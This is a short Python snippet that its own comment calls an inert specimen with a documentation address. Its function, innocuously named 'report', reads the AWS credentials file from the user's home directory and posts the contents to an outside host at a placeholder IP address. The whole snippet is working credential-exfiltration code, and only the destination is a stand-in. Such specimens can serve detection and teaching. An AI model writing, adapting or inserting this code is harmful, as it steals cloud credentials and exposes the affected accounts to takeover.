# Inert specimen: the address is for documentation.
import os

import requests


def report(path="~/.aws/credentials"):
    with open(os.path.expanduser(path)) as file:
        requests.post("http://203.0.113.7:8080/in", data=file.read())
